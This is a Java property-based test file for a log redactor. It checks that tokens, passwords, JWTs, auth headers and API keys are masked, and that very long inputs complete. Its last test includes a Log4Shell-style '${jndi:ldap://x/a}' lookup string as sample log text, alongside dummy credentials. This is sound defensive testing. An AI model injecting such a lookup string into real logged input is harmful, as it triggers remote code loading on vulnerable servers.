package dev.latchkey.app.logging;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Assume;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.StringLength;

class RedactorTest {
    private static final List<String> KEYS = List.of(
            "access_token",
            "refresh_token",
            "id_token",
            "client_secret",
            "password",
            "api_key",
            "code",
            "code_verifier",
            "apiKey",
            "refreshToken",
            "accessToken",
            "clientSecret",
            "db_password",
            "X-Api-Key");

    /** The ways a secret-named value shows up in a log line; %k is the key, %v the value. */
    private static final List<String> FORMS = List.of(
            "%k=%v",
            "%k = %v",
            "%k: %v",
            "%k:%v",
            "\"%k\":\"%v\"",
            "{\"%k\" : \"%v\", \"n\":1}",
            "{\\\"%k\\\":\\\"%v\\\"}",
            "'%k': '%v'",
            "%k=\"%v\"",
            "https://idp.example/cb?state=xyz&%k=%v&iss=https%3A%2F%2Fidp",
            "POST /token?%k=%v HTTP/1.1",
            "jdbc:postgresql://db:5432/latchkey?user=app&%k=%v&ssl=true",
            "(%k=%v)",
            "[%k=%v]");

    @Provide
    Arbitrary<String> tokens() {
        return Arbitraries.strings()
                .withChars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")
                .ofMinLength(8)
                .ofMaxLength(64);
    }

    @Provide
    Arbitrary<String> keys() {
        return Arbitraries.of(KEYS);
    }

    @Provide
    Arbitrary<String> forms() {
        return Arbitraries.of(FORMS);
    }

    @Property(tries = 3000)
    void mayHoldSecret_falseOnlyWhereNoRuleWouldChangeTheText(@ForAll("fragmentText") String text) {
        if (!Redactor.mayHoldSecret(text)) {
            assertThat(Redactor.applyRules(text)).isEqualTo(text);
        }
    }

    @Property(tries = 1000)
    void mayHoldSecret_randomText_soundToo(@ForAll String text) {
        if (!Redactor.mayHoldSecret(text)) {
            assertThat(Redactor.applyRules(text)).isEqualTo(text);
        }
    }

    @Example
    void redact_accessLogLine_skipsRulesAndKeepsText() {
        String line = "GET /v1/auth/verify 200 0.412ms";

        assertThat(Redactor.mayHoldSecret(line)).isFalse();
        assertThat(Redactor.redact(line)).isSameAs(line);
        assertThat(Redactor.mayHoldSecret("see BeArEr abcdefghijklmnop")).isTrue();
    }

    @Provide
    Arbitrary<String> fragmentText() {
        return Arbitraries.of(
                        "token",
                        "Bearer ",
                        "basic ",
                        "DPOP ",
                        "eyJ",
                        "lk_",
                        "abcdefghijklmnopqrstuvwxyz0123",
                        "password",
                        "api_key",
                        "code",
                        " ",
                        "\"",
                        "'",
                        "\\",
                        ".",
                        "-",
                        "_",
                        "@",
                        "/",
                        "https",
                        "x",
                        "1")
                .list()
                .ofMaxSize(12)
                .map(parts -> String.join("", parts));
    }

    @Property(tries = 2000)
    void redact_secretNamedValueInAnyForm_neverSurvives(
            @ForAll("keys") String key,
            @ForAll("forms") String form,
            @ForAll("tokens") String token,
            @ForAll @StringLength(max = 40) String before,
            @ForAll @StringLength(max = 40) String after) {
        String skeleton = form.replace("%k", key).replace("%v", "");
        Assume.that(!before.contains(token) && !after.contains(token) && !skeleton.contains(token));

        String line = before + " " + form.replace("%k", key).replace("%v", token) + " " + after;

        assertThat(Redactor.redact(line)).doesNotContain(token);
    }

    @Provide
    Arbitrary<String> base64url() {
        return Arbitraries.strings()
                .withChars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
                .ofMinLength(8)
                .ofMaxLength(64);
    }

    @Property(tries = 1000)
    void redact_jwtAnywhere_neverSurvives(
            @ForAll("base64url") String payload,
            @ForAll("base64url") String signature,
            @ForAll @StringLength(max = 40) String before,
            @ForAll @StringLength(max = 40) String after) {
        String jwt = "eyJhbGciOiJSUzI1NiJ9." + payload + "." + signature;
        String secretPart = jwt.substring(jwt.indexOf('.') + 1);
        Assume.that(!before.contains(secretPart) && !after.contains(secretPart));

        String redacted = Redactor.redact(before + " " + jwt + " " + after);

        assertThat(redacted).doesNotContain(secretPart).doesNotContain("eyJhbGciOiJSUzI1NiJ9.");
    }

    @Property(tries = 1000)
    void redact_authSchemeCredential_neverSurvives(
            @ForAll("schemes") String scheme,
            @ForAll("tokens") String token,
            @ForAll @StringLength(max = 40) String before,
            @ForAll @StringLength(max = 40) String after) {
        Assume.that(!before.contains(token) && !after.contains(token) && !scheme.contains(token));

        String redacted = Redactor.redact(before + " Authorization: " + scheme + " " + token + " " + after);

        assertThat(redacted).doesNotContain(token);
    }

    @Provide
    Arbitrary<String> schemes() {
        return Arbitraries.of("Bearer", "bearer", "Basic", "DPoP");
    }

    @Property(tries = 1000)
    void redact_latchkeyApiKey_neverSurvives(
            @ForAll("apiKeyBodies") String body,
            @ForAll @StringLength(max = 40) String before,
            @ForAll @StringLength(max = 40) String after) {
        Assume.that(!before.contains(body) && !after.contains(body));

        String redacted = Redactor.redact(before + " lk_" + body + " " + after);

        assertThat(redacted).doesNotContain(body);
    }

    @Provide
    Arbitrary<String> apiKeyBodies() {
        return Arbitraries.strings()
                .withChars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")
                .ofMinLength(20)
                .ofMaxLength(48);
    }

    @Example
    void redact_longValue_showsStableFingerprint() {
        String token = "v1.MRjS3pZ2x9q7Lw8KfT0bYcNhA4uE6gDi";

        String once = Redactor.redact("refresh_token=" + token);

        assertThat(once).matches("refresh_token=\\[redacted:sha256:[0-9a-f]{12}]");
        assertThat(Redactor.redact("refresh_token=" + token)).isEqualTo(once);
        assertThat(Redactor.redact(once)).isEqualTo(once);
    }

    @Example
    void redact_shortValue_showsNoFingerprint() {
        // A hash of a short password could be reversed with a dictionary.
        assertThat(Redactor.redact("password=hunter2")).isEqualTo("password=[redacted]");
    }

    @Example
    void redact_jwtAsValue_isRedactedOnce() {
        String jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlLXZhbHVl";

        String redacted = Redactor.redact("access_token=" + jwt + "&token_type=Bearer");

        assertThat(redacted).matches("access_token=\\[redacted:sha256:[0-9a-f]{12}]&token_type=Bearer");
    }

    @Example
    void redact_urlUserInfoPassword_isRedacted() {
        assertThat(Redactor.redact("connecting to postgresql://latchkey:s3cr3t-pw@db.internal:5432/lk"))
                .isEqualTo("connecting to postgresql://latchkey:[redacted]@db.internal:5432/lk");
    }

    @Example
    void redact_basicCredentialWithPadding_isRedacted() {
        assertThat(Redactor.redact("Authorization: Basic dXNlcjpwYXNz=")).doesNotContain("dXNlcjpwYXNz");
    }

    @Example
    void redact_longJsonValueFullOfEscapes_completesAndMasksIt() {
        // Regression: a regex loop over JSON escapes recursed per character (StackOverflowError).
        String value = "\\\"ab".repeat(16_000);

        String redacted = Redactor.redact("{\"password\":\"" + value + "\"} tail");

        assertThat(redacted).startsWith("{\"password\":\"[redacted:sha256:").endsWith("\"} tail");
    }

    @Example
    void redact_unterminatedJsonValue_isMaskedToTheEnd() {
        assertThat(Redactor.redact("{\"refresh_token\":\"rt-1234567890abcdefghij"))
                .matches("\\{\"refresh_token\":\"\\[redacted:sha256:[0-9a-f]{12}]");
    }

    @Example
    void redact_hugeInputs_complete() {
        List<String> inputs = List.of(
                "A".repeat(65_536),
                "password".repeat(8_192),
                "Bearer ".repeat(9_000),
                "eyJ" + "a.".repeat(30_000),
                "eyJ".repeat(21_000),
                "a.".repeat(32_000),
                "'password': '" + "d".repeat(65_000),
                "password: 'x ".repeat(5_000),
                "x://a:" + "b".repeat(65_000),
                "{\\\"password\\\":\\\"" + "c".repeat(65_000));

        for (String input : inputs) {
            assertThat(Redactor.redact(input)).isNotNull();
        }
    }

    @Example
    void redact_ordinaryText_isUnchanged() {
        String text = "GET /v1/tokens/{resource} 200 3.2ms status_code=200 error_code=invalid_grant"
                + " tenant=acme token_type=Bearer expires_in=3600 ${jndi:ldap://x/a}";

        assertThat(Redactor.redact(text)).isEqualTo(text);
    }
}
